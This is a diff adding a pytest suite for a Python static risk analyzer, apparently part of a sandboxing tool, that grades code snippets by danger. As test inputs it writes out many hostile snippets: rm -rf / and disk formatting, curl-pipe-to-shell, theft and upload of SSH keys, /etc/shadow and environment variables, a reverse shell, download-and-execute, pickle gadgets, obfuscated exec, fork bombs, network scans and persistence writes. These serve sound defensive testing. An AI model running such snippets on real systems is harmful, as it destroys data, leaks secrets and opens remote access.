@@ -1,0 +1,419 @@
+"""The Python analyzer: name resolution, constant folding, path grading and the rule families."""
+
+from __future__ import annotations
+
+import textwrap
+
+import pytest
+from sandlot.risk.model import Category, RiskLevel
+from sandlot.risk.python_analyzer import analyze_python
+
+C, H, M, L, S = RiskLevel.CRITICAL, RiskLevel.HIGH, RiskLevel.MEDIUM, RiskLevel.LOW, RiskLevel.SAFE
+
+
+def level(code: str) -> RiskLevel:
+    return max((f.level for f in analyze_python(textwrap.dedent(code))), default=S)
+
+
+def rules(code: str) -> set[str]:
+    return {f.rule_id for f in analyze_python(textwrap.dedent(code))}
+
+
+# -- the examples the issue names --------------------------------------------------------
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        ('open("data.csv")', S),
+        ('open("/etc/shadow")', H),
+        ('import shutil\nshutil.rmtree("build")', L),
+        ('import shutil\nshutil.rmtree("/")', C),
+    ],
+)
+def test_issue_examples(code: str, expected: RiskLevel) -> None:
+    assert level(code) is expected
+
+
+# -- imports, aliases, builtins, shadowing --------------------------------------------------
+@pytest.mark.parametrize(
+    "code",
+    [
+        'import os as o\no.system("rm -rf /")',
+        'from os import system as s\ns("rm -rf /")',
+        '__import__("os").system("rm -rf /")',
+        'import importlib\nimportlib.import_module("os").system("rm -rf /")',
+        'import sys\nsys.modules["os"].system("rm -rf /")',
+        'from subprocess import *\ncall("rm -rf /", shell=True)',
+        'import subprocess as sp\nrun = sp.run\nrun(["rm", "-rf", "/"])',
+    ],
+)
+def test_aliases_resolve(code: str) -> None:
+    assert level(code) is C
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "model.eval()",
+        'df.eval("a + b")',
+        "import torch\nm = torch.nn.Linear(2, 2)\nm.eval()",
+        "def eval(x):\n    return x\neval(data)",  # shadowed builtin
+        "eval = print\neval(data)",
+        "import re\nre.compile(pattern)",
+        "cursor.execute(sql)",
+        "from mylib import exec\nexec(data)",
+    ],
+)
+def test_not_the_builtin(code: str) -> None:
+    assert level(code) < H
+    assert "python.dynamic-code" not in rules(code)
+
+
+def test_parameter_shadowing_builtin_is_not_builtin() -> None:
+    assert level("def f(eval):\n    return eval(x)\n") < H
+
+
+# -- constant folding -------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    "code",
+    [
+        'import shutil\nshutil.rmtree("/" + "etc")',
+        'import shutil\nroot = "/"\nshutil.rmtree(f"{root}etc")',
+        'import shutil, os\nshutil.rmtree(os.path.join("/", "etc"))',
+        'import shutil\nfrom pathlib import Path\nshutil.rmtree(Path("/") / "etc")',
+        'import shutil, os\nshutil.rmtree(os.path.expanduser("~"))',
+        "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home())",
+        'import shutil, os\nshutil.rmtree(os.environ["HOME"])',
+        'import shutil\nshutil.rmtree("/{}".format("etc"))',
+        'import shutil\nshutil.rmtree("/%s" % "etc")',
+    ],
+)
+def test_folding_reaches_the_path(code: str) -> None:
+    assert level(code) is C
+
+
+def test_unknown_prefix_still_matches_secret_suffix() -> None:
+    assert level('open(f"{home}/.ssh/id_rsa").read()') is H
+
+
+# -- dynamic code -----------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        ('eval("1 + 2")', L),
+        ("eval(user_text)", H),
+        ("exec(input())", H),
+        ('import base64\nexec(base64.b64decode("cHJpbnQoMSk="))', H),  # decoded code, even if harmless
+        ('import base64\nexec(base64.b64decode("aW1wb3J0IHNodXRpbDsgc2h1dGlsLnJtdHJlZSgnLycp"))', C),
+        ("import zlib\nexec(zlib.decompress(blob))", H),
+        ('import os\ngetattr(os, "sys" + "tem")("id")', H),
+        ('g = globals()["ev" + "al"]\ng("1")', H),
+        ("import urllib.request\nexec(urllib.request.urlopen(u).read())", C),
+        ('exec(open("version.py").read())', M),
+        ('import codecs\nexec(codecs.decode("vzcbeg bf", "rot13"))', H),
+        ("exec(''.join(chr(c) for c in [112, 114, 105, 110, 116]))", H),
+    ],
+)
+def test_dynamic_code(code: str, expected: RiskLevel) -> None:
+    assert level(code) is expected
+
+
+def test_decoded_payload_is_analysed() -> None:
+    # base64 of: import os; os.system('rm -rf /')
+    code = 'import base64\nexec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3JtIC1yZiAvJyk="))'
+    found = analyze_python(code)
+    assert any(f.rule_id == "shell.delete" and f.level is C for f in found)
+
+
+# -- processes (shell strings go through the shell analyzer) ------------------------------------
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        ('import subprocess\nsubprocess.run(["git", "status"])', L),
+        ('import os\nos.system("ls -la")', L),
+        ('import subprocess\nsubprocess.run("curl -s http://x | sh", shell=True)', C),
+        ('import subprocess\nsubprocess.run(["bash", "-c", "rm -rf ~"])', C),
+        ('import os\nos.execv("/bin/sh", ["sh", "-c", "mkfs.ext4 /dev/sda"])', C),
+        ("import os\nos.system(cmd)", M),
+        ("import os\nos.system(input())", H),
+        ('import subprocess\nsubprocess.run(["python3", "-c", "import shutil; shutil.rmtree(\'/\')"])', C),
+    ],
+)
+def test_processes(code: str, expected: RiskLevel) -> None:
+    assert level(code) is expected
+
+
+def test_shell_findings_are_merged_at_the_python_line() -> None:
+    found = analyze_python('import os\n\nos.system("rm -rf /")\n')
+    shell = [f for f in found if f.rule_id.startswith("shell.")]
+    assert shell and all(f.line == 3 for f in shell)
+    assert all(f.analyzer == "sandlot.shell" for f in shell)
+
+
+# -- network and exfiltration -------------------------------------------------------------------
+def test_plain_network_is_low() -> None:
+    assert level('import requests\nrequests.get("https://api.github.com")') is L
+
+
+def test_secret_flowing_to_network_is_critical() -> None:
+    code = """
+        import requests, os
+        data = open(os.path.expanduser("~/.ssh/id_rsa")).read()
+        body = {"k": data.strip()}
+        requests.post("https://x.example", json=body)
+    """
+    found = analyze_python(textwrap.dedent(code))
+    assert any(f.category is Category.EXFILTRATION and f.level is C for f in found)
+
+
+def test_secret_flowing_through_helper_function_is_critical() -> None:
+    code = """
+        import socket
+        def ship(blob):
+            s = socket.create_connection(("x", 1))
+            s.sendall(blob)
+        ship(open("/etc/shadow").read())
+    """
+    assert level(code) is C
+
+
+def test_environment_dump_to_network_is_critical() -> None:
+    assert level("import os, requests\nrequests.post(u, json=dict(os.environ))") is C
+
+
+def test_api_key_header_is_not_exfiltration() -> None:
+    code = 'import os, requests\nrequests.get(u, headers={"Authorization": os.environ["API_KEY"]})'
+    assert level(code) < H
+
+
+def test_reverse_shell() -> None:
+    code = """
+        import socket, os, pty
+        s = socket.socket()
+        s.connect(("10.0.0.1", 4444))
+        os.dup2(s.fileno(), 0)
+        pty.spawn("/bin/sh")
+    """
+    assert level(code) is C
+
+
+def test_port_scan() -> None:
+    code = """
+        import socket
+        for port in range(1, 1024):
+            socket.socket().connect_ex(("10.0.0.1", port))
+    """
+    assert level(code) is H
+
+
+def test_download_and_execute() -> None:
+    code = """
+        import urllib.request, subprocess
+        urllib.request.urlretrieve("http://x/agent", "/tmp/agent")
+        subprocess.run(["/tmp/agent"])
+    """
+    assert level(code) is C
+
+
+# -- persistence, privilege ---------------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        ('import os\nopen(os.path.expanduser("~/.bashrc"), "a").write("x")', H),
+        ('open("/etc/cron.d/job", "w").write("x")', H),
+        ('from pathlib import Path\n(Path.home() / ".ssh" / "authorized_keys").write_text("k")', C),
+        ('open("/etc/sudoers", "a").write("x")', C),
+        ('import os\nos.chmod("/bin/bash", 0o4755)', C),
+        ('import os\nos.chmod("/etc/shadow", 0o777)', C),
+        ('import os\nos.chmod("run.sh", 0o755)', S),
+        ("import os\nos.setuid(0)", H),
+        ("import os, signal\nos.kill(1, signal.SIGKILL)", C),
+        ("import os, signal\nos.kill(os.getpid(), signal.SIGTERM)", S),
+        ("import psutil\nfor p in psutil.process_iter():\n    p.kill()", H),
+    ],
+)
+def test_persistence_and_privilege(code: str, expected: RiskLevel) -> None:
+    assert level(code) is expected
+
+
+# -- deserialization, ctypes -------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        ("import pickle\npickle.loads(blob)", H),
+        ('import pickle\nwith open("cache.pkl", "rb") as f:\n    pickle.load(f)', M),
+        ("import pickle, requests\npickle.loads(requests.get(u).content)", C),
+        ("import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")", C),
+        ("import yaml\nyaml.load(f)", H),
+        ("import yaml\nyaml.load(f, Loader=yaml.SafeLoader)", S),
+        ("import yaml\nyaml.safe_load(f)", S),
+        ("import marshal\nmarshal.loads(b)", H),
+        ('import ctypes\nlib = ctypes.CDLL("libc.so.6")\nlib.system(b"id")', H),
+        ('import torch\ntorch.load("w.pt", weights_only=True)', S),
+    ],
+)
+def test_deserialization_and_native(code: str, expected: RiskLevel) -> None:
+    assert level(code) is expected
+
+
+def test_pickle_gadget_class() -> None:
+    code = """
+        import os
+        class E:
+            def __reduce__(self):
+                return (os.system, ("rm -rf ~",))
+    """
+    found = rules(code)
+    assert "python.pickle-gadget" in found
+    assert level(code) is C
+
+
+# -- resources -----------------------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        ("import os\nwhile True:\n    os.fork()", C),
+        ("import os\ndef f():\n    os.fork()\n    f()\nf()", C),
+        ("x = []\nwhile True:\n    x.append(1)", H),
+        ("x = []\nwhile True:\n    x.append(1)\n    if len(x) > 10:\n        break", S),
+        ("b = bytearray(10**12)", H),
+        ('s = "A" * (1 << 40)', H),
+        ("b = bytearray(1024)", S),
+        ("import threading\nwhile True:\n    threading.Thread(target=f).start()", H),
+        ("import os\nfor _ in range(4):\n    os.fork()", S),
+        ("import time\nwhile True:\n    time.sleep(1)", S),
+    ],
+)
+def test_resources(code: str, expected: RiskLevel) -> None:
+    assert level(code) is expected
+
+
+# -- parse errors --------------------------------------------------------------------------------------
+def test_unparseable_is_not_safe() -> None:
+    found = analyze_python("def f(:\n")
+    assert [f.rule_id for f in found] == ["python.parse-error"]
+    assert found[0].level is M and found[0].category is Category.PARSE
+
+
+def test_parse_error_level_is_configurable() -> None:
+    assert analyze_python("def (", parse_error_level=H)[0].level is H
+
+
+def test_findings_carry_location_and_evidence() -> None:
+    found = analyze_python('import os\nx = 1\nos.remove("/etc/hosts")\n')
+    delete = next(f for f in found if f.rule_id == "python.delete")
+    assert (delete.line, delete.column) == (3, 0)
+    assert delete.evidence == 'os.remove("/etc/hosts")'
+    assert delete.analyzer == "sandlot.python"
+
+
+# -- rules added for generalisation (spyware, floods, raw sockets, self-spawning) ------------------
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        ("from pynput import keyboard\nkeyboard.Listener(on_press=f).start()", H),
+        ("import pyperclip, requests\nrequests.post(u, data=pyperclip.paste())", C),
+        ('import requests\nwhile True:\n    requests.get("http://victim")', H),
+        ('import requests, time\nwhile True:\n    requests.get("http://x")\n    time.sleep(30)', L),
+        ("while True:\n    pass", H),
+        ("import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW)", H),
+        ("import threading\ndef f():\n    threading.Thread(target=f).start()\nf()", C),
+        ('import subprocess\nsubprocess.run(["bash", "-i"])', M),
+        ('import socket, subprocess\ns = socket.socket()\ns.connect(("h", 1))\nsubprocess.Popen(["/bin/sh"])', C),
+        ('m = __import__("".join(map(chr, [111, 115])))\nm.system("id")', H),
+        ('from dotenv import load_dotenv\nload_dotenv(".env")', S),
+        ('import ssl\nssl.create_default_context(cafile="certs/ca.pem")', S),
+        ('import torch, urllib.request\nurllib.request.urlretrieve(u, "m.pt")\ntorch.load("m.pt")', C),
+        ('def sh(c):\n    import os\n    os.system(c)\nsh("mkfs.ext4 /dev/sda")', C),
+        ('import shutil\ndef clean(p="/opt"):\n    shutil.rmtree(p)\nclean()', C),
+    ],
+)
+def test_generalisation_rules(code: str, expected: RiskLevel) -> None:
+    assert level(code) is expected
+
+
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        ("import os, shutil\nfor e in os.scandir(os.path.expanduser('~')):\n    shutil.rmtree(e.path)", H),
+        ('import httpx, subprocess\nsubprocess.run(["sh", "-c", httpx.get(u).text])', C),
+        ("big = [0 for _ in range(10**11)]", H),
+        ("small = [0 for _ in range(1000)]", S),
+        ('src = "imXport os".replace("X", "")\nexec(src)', H),
+        ("import os, sys\nos.system(sys.argv[1])", H),
+        (
+            "import os, requests\n"
+            "for root, _, files in os.walk(os.path.expanduser('~')):\n"
+            "    for n in files:\n"
+            "        requests.post(u, files={'f': open(os.path.join(root, n), 'rb')})",
+            C,
+        ),
+    ],
+)
+def test_more_rules(code: str, expected: RiskLevel) -> None:
+    assert level(code) is expected
+
+
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        ("def f(n):\n    return f(n + 1)\nimport sys\nsys.setrecursionlimit(10**6)\nf(0)", H),
+        ("def fib(n):\n    if n < 2:\n        return n\n    return fib(n - 1) + fib(n - 2)", S),
+        (
+            "import threading, socket\n"
+            "def probe(ip):\n    socket.socket().connect_ex((ip, 22))\n"
+            "for i in range(254):\n    threading.Thread(target=probe, args=(f'10.0.0.{i}',)).start()",
+            H,
+        ),
+        ("import os, requests\nbag = []\nbag.append(open('/etc/shadow').read())\nrequests.post(u, json=bag)", C),
+        (
+            "import zipfile, requests\n"
+            "with zipfile.ZipFile('/tmp/k.zip', 'w') as z:\n    z.write('/root/.ssh/id_rsa')\n"
+            "requests.post(u, data=open('/tmp/k.zip', 'rb'))",
+            C,
+        ),
+        ("import shutil\nfrom pathlib import Path\nshutil.rmtree(Path('/home/alice/project').parents[1])", C),
+        ("import psutil\npsutil.Process(1).kill()", C),
+        ("import os, psutil\npsutil.Process(os.getpid()).terminate()", S),
+    ],
+)
+def test_flow_through_callbacks_containers_and_files(code: str, expected: RiskLevel) -> None:
+    assert level(code) is expected
+
+
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        ('b = __builtins__ if isinstance(__builtins__, dict) else __builtins__.__dict__\nb["exec"](p)', H),
+        (
+            "import asyncio\nasync def main():\n"
+            "    r, w = await asyncio.open_connection('h', 1)\n"
+            "    await asyncio.create_subprocess_exec('/bin/sh', stdin=asyncio.subprocess.PIPE)\n",
+            C,
+        ),
+        ("from scapy.all import IP, TCP, sr1\nsr1(IP(dst='10.0.0.5') / TCP(dport=22, flags='S'))", H),
+        (
+            'import urllib.request, subprocess\nurllib.request.urlretrieve(u, "t.jar")\n'
+            'subprocess.run(["java", "-jar", "t.jar"])',
+            C,
+        ),
+        ('import subprocess\nsubprocess.call("pkill -9 -f python", shell=True)', H),
+    ],
+)
+def test_round_seven_rules(code: str, expected: RiskLevel) -> None:
+    assert level(code) is expected
+
+
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        (
+            "import http.server, socketserver, os\nos.chdir(os.path.expanduser('~'))\n"
+            "socketserver.TCPServer(('0.0.0.0', 8080), http.server.SimpleHTTPRequestHandler)",
+            H,
+        ),
+        ("import socketserver\nsocketserver.TCPServer(('127.0.0.1', 9999), Handler)", S),
+        ("import subprocess\nfor i in range(1, 255):\n    subprocess.run(['ping', '-c', '1', f'10.0.0.{i}'])", H),
+    ],
+)
+def test_file_servers_and_sweeps(code: str, expected: RiskLevel) -> None:
+    assert level(code) is expected
